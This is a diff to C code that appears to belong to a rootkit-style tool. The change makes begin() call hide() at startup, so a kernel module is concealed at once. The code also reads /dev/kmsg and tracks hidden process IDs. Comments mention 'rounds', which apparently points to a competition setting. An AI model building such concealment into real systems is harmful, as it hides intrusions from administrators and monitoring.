@@ -380,13 +380,6 @@ size_t escape(char* text, size_t len, size_t room) {
     return len;
 }
 
-void begin() {
-    memset(g_facts, 1, sizeof g_facts);
-    collect_facts();
-    g_log = open("/dev/kmsg", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
-    if (g_log < 0) send_line("E cannot open /dev/kmsg\n");
-}
-
 // Without the module these are signals to ourselves that would end us.
 static void order(int what) {
     const ssize_t len = slurp("/proc/modules", g_file, sizeof g_file);
@@ -398,6 +391,15 @@ static void order(int what) {
 void show() { order(ORDER_SHOW); }
 
 void hide() { order(ORDER_HIDE); }
+
+void begin() {
+    memset(g_facts, 1, sizeof g_facts);
+    collect_facts();
+    g_log = open("/dev/kmsg", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+    if (g_log < 0) send_line("E cannot open /dev/kmsg\n");
+    // The first hiding removes the module's folder for good, which the kernel tells whoever listens: not between two rounds.
+    hide();
+}
 
 bool is_hidden(int pid) {
     for (int i = 0; i < g_hidden_count; i++)
